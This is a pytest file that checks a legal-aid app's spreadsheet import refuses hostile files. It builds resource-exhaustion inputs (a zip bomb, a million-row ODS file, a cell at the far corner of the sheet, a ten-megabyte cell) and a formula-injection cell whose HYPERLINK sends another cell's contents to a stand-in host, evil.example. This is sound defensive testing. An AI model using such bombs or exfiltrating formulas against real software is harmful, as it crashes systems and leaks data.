"""Hostile spreadsheets for the client import (issue 20): each gets one clear, short line and
exit 4, and the store is as it was. The cases that would make the native reader allocate
gigabytes (and abort the process) run in a child process, so that a regression fails the test
instead of killing the run (docs/import.md, "Hostile files")."""

from __future__ import annotations

import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import xlsxwriter
from sqlalchemy import func, select, text

from conftest import ADMIN, ADMIN_PASSWORD, Run, cli_as, copy_store, new_center_store
from import_support import center_xlsx, write_xlsx
from legalaid_desktop import app
from legalaid_desktop.store.models import AuditEvent, Client

MAX_MESSAGE = 500


@pytest.fixture(scope="module")
def store_once(tmp_path_factory: pytest.TempPathFactory) -> Path:
    data_dir = tmp_path_factory.mktemp("hostile-import") / "store"
    new_center_store(data_dir).close()
    return data_dir


@pytest.fixture
def store(store_once: Path, tmp_path: Path) -> Path:
    return copy_store(store_once, tmp_path)


@pytest.fixture
def admin(store: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Run:
    return cli_as(store, ADMIN, ADMIN_PASSWORD, monkeypatch, capsys)


@pytest.fixture
def mapping(tmp_path: Path) -> Path:
    path = tmp_path / "map.json"
    path.write_text(
        '{"format": "legalaid-import-mapping", "version": 1, "header_row": 1, '
        '"columns": {"A": "full_name"}, "defaults": {"gender": "undisclosed", '
        '"region": "AZ-GA"}}',
        "utf-8",
    )
    return path


def _state(store: Path) -> tuple[int, int]:
    session = app.login(store, ADMIN, ADMIN_PASSWORD)
    try:
        with session.ws.read() as s:
            return (
                s.scalar(select(func.count()).select_from(Client)) or 0,
                s.scalar(
                    select(func.count()).select_from(AuditEvent).where(AuditEvent.action != "login")
                )
                or 0,
            )
    finally:
        session.close()


def _refused(run: Run, sheet: Path, mapping: Path, store: Path, expected: str) -> None:
    before = _state(store)
    code, out, err = run("--lang", "en", "import", "clients", str(sheet), "--mapping", str(mapping))
    assert code == 4, err
    assert expected in err
    line = err.removeprefix("legalaid: ").rstrip("\n")
    assert "\n" not in line and line.isprintable() and len(line) <= MAX_MESSAGE
    assert "Traceback" not in err + out
    assert _state(store) == before  # no client, no event but the logins


def _child(store: Path, sheet: Path, mapping: Path) -> subprocess.CompletedProcess[str]:
    """The command in a child process (a native abort would end only the child)."""
    env = {
        **os.environ,
        "LEGALAID_DATA_DIR": str(store),
        "LEGALAID_USER": ADMIN,
        "LEGALAID_PASSWORD": ADMIN_PASSWORD,
    }
    args = ["--lang", "en", "import", "clients", str(sheet), "--mapping", str(mapping)]
    return subprocess.run(
        [sys.executable, "-m", "legalaid_desktop.cli.main", *args],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_a_cell_at_the_far_corner_of_the_sheet_is_refused_before_the_reader_allocates(
    store: Path, tmp_path: Path, mapping: Path
) -> None:
    """One cell in A1 and one in XFD1048576: 17 billion cells for a dense reader (measured:
    python-calamine aborts the process with "memory allocation failed")."""
    sheet = tmp_path / "far.xlsx"
    book = xlsxwriter.Workbook(str(sheet))
    page = book.add_worksheet()
    page.write("A1", "Ad")
    page.write("XFD1048576", "x")
    book.close()
    done = _child(store, sheet, mapping)
    assert done.returncode == 4, done.stderr
    assert "reaches row 1048576" in done.stderr
    assert _state(store)[0] == 0


def test_an_ods_whose_rows_repeat_a_million_times_is_refused(
    store: Path, tmp_path: Path, mapping: Path
) -> None:
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
        '<office:spreadsheet><table:table table:name="S"><table:table-row>'
        '<table:table-cell office:value-type="string"><text:p>Ad</text:p></table:table-cell>'
        '</table:table-row><table:table-row table:number-rows-repeated="1000000">'
        '<table:table-cell office:value-type="string" table:number-columns-repeated="90">'
        "<text:p>x</text:p></table:table-cell></table:table-row></table:table>"
        "</office:spreadsheet></office:body></office:document-content>"
    )
    sheet = tmp_path / "bomb.ods"
    with zipfile.ZipFile(sheet, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content)
    done = _child(store, sheet, mapping)
    assert done.returncode == 4, done.stderr
    assert "reaches row 1000001" in done.stderr


def test_a_zip_bomb_is_refused_while_it_unpacks(
    admin: Run, store: Path, tmp_path: Path, mapping: Path
) -> None:
    sheet = center_xlsx(tmp_path / "list.xlsx")
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(sheet) as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            out.writestr(info, source.read(info))
        with out.open("xl/media/padding.bin", "w", force_zip64=True) as padding:
            chunk = b"\0" * (1 << 20)
            for _ in range(300):  # 300 MB of zeros: about 300 KB packed
                padding.write(chunk)
    assert bomb.stat().st_size < 2 * 1024 * 1024
    _refused(admin, bomb, mapping, store, "The file unpacks to more than")


def test_a_cell_of_ten_megabytes_is_refused_by_name(
    admin: Run, store: Path, tmp_path: Path, mapping: Path
) -> None:
    """A spreadsheet program writes at most 32,767 characters in a cell (XlsxWriter too): the
    file is made by hand, its shared string replaced by ten megabytes."""
    made = write_xlsx(tmp_path / "made.xlsx", [["Ad"], ["PLACEHOLDER"]])
    sheet = tmp_path / "big.xlsx"
    with zipfile.ZipFile(made) as source, zipfile.ZipFile(sheet, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/sharedStrings.xml":
                data = data.replace(b"PLACEHOLDER", b"x" * (10 * 1024 * 1024))
            out.writestr(info, data)
    _refused(admin, sheet, mapping, store, "Cell A2 holds 10485760 characters")
    big_csv = tmp_path / "big.csv"
    big_csv.write_text("Ad\n" + "x" * (10 * 1024 * 1024) + "\n", "utf-8")
    _refused(admin, big_csv, mapping, store, "is longer than a spreadsheet cell can be")


def test_a_csv_of_a_hundred_thousand_columns_is_refused(
    admin: Run, store: Path, tmp_path: Path, mapping: Path
) -> None:
    sheet = tmp_path / "wide.csv"
    sheet.write_text(";".join(["Ad"] * 100_000) + "\n", "utf-8")
    _refused(admin, sheet, mapping, store, "Row 1 has 100000 columns")


def test_a_sheet_reaching_the_last_xlsx_column_is_refused(
    admin: Run, store: Path, tmp_path: Path, mapping: Path
) -> None:
    sheet = write_xlsx(tmp_path / "wide.xlsx", [["Ad", *([None] * 16_382), "x"]])
    _refused(admin, sheet, mapping, store, "reaches column 16384")


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("nul.csv", b"Ad;Rayon\n\x00\x00Ali;Ganja\n", "NUL bytes"),
        ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old Excel file"),
        ("cut.xlsx", None, "damaged"),
        ("fake.xlsx", b"Ad;Rayon\nAli;Ganja\n", "damaged"),
        ("other.zip", b"", "not a spreadsheet"),
    ],
)
def test_broken_and_foreign_files_get_one_clear_line(
    admin: Run, store: Path, tmp_path: Path, mapping: Path, name: str, data: bytes | None,
    expected: str,
) -> None:  # fmt: skip
    sheet = tmp_path / name
    if name == "cut.xlsx":
        whole = center_xlsx(tmp_path / "whole.xlsx").read_bytes()
        sheet.write_bytes(whole[: len(whole) // 2])
    elif name == "other.zip":
        with zipfile.ZipFile(sheet, "w") as archive:
            archive.writestr("readme.txt", "hello")
    else:
        assert data is not None
        sheet.write_bytes(data)
    _refused(admin, sheet, mapping, store, expected)


def test_formula_text_is_a_problem_and_never_stored(
    admin: Run, store: Path, tmp_path: Path, mapping: Path
) -> None:
    sheet = write_xlsx(
        tmp_path / "formula.xlsx",
        [["Ad"], ['=HYPERLINK("http://evil.example/?x="&A3,"Click")'], ["Əliyev Rəşad"]],
    )
    args = ("--lang", "en", "import", "clients", str(sheet), "--mapping", str(mapping))
    code, out, _err = admin(*args)
    assert code == 4
    assert "Row 2, column A (Ad): The cell holds a spreadsheet formula" in out
    code, out, err = admin(*args, "--skip-invalid")
    assert code == 0, err
    session = app.login(store, ADMIN, ADMIN_PASSWORD)
    try:
        with session.ws.read() as s:
            names = list(s.scalars(select(Client.full_name)))
            found = s.execute(
                text("SELECT count(*) FROM search_index_refs WHERE body LIKE '%HYPERLINK%'")
            ).scalar()
    finally:
        session.close()
    assert names == ["Əliyev Rəşad"] and found == 0
